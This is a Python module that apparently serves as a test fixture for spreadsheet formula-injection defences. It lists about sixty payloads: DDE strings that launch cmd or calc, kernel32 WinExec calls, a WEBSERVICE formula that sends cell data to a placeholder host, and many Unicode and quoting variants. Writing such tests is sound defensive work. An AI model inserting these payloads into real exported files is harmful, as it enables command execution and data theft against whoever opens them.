"""Sixty texts that a spreadsheet program might take for a formula, a command or a link."""

from __future__ import annotations

PAYLOADS = (
    "=1+1", "=SUM(A1:A9)", "= 1+1", " =1+1", "\u3000=1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u2060=1+1",
    "\t=1+1", "\n=1+1", "\r=1+1", "\r\n=1+1", "x\n=1+1", "x\t=1+1", "+1+1", "-1+1", "@SUM(1+1)", "+cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", "=CMD|'/C notepad'!'A1'",
    "=MSEXCEL|'\\..\\calc'!_x", '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")', '=DDEAUTO("cmd","/C calc")',
    '=HYPERLINK("http://192.0.2.1/x","点这里")',
    '=HYPERLINK("file:///c:/windows","单位")', '=WEBSERVICE("http://192.0.2.1/"&A1)', '=IMPORTXML("http://192.0.2.1/","//a")',
    '=IMAGE("http://192.0.2.1/a.png")', '=FILTERXML("<a/>","//a")', '=INDIRECT("A1")', '=_xlfn.DISPIMG("ID_1",1)',
    '=EXEC("calc")', '=CALL("kernel32","WinExec","JCJ","calc",0)', '=REGISTER.ID("a","b")', "{=1+1}", "{=TABLE(A1,B1)}",
    "'=1+1", "''=1+1", "' =1+1", "\"=1+1", '"=1+1"', '=1+1"', '"",=1+1', ';=1+1', ",=1+1", "|=1+1", "%0A=1+1", "＝1+1",
    "＋1+1", "－1+1", "＠SUM(1)", "﹦1+1", "﹢1+1", "﹣1+1", "−1+1", "=1+1--", "=+-@1", "0x3d1+1", "_x003D_1+1",
)  # fmt: skip
"""Each a text of one line of the list above; blanks, signs and quotes in them are meant."""
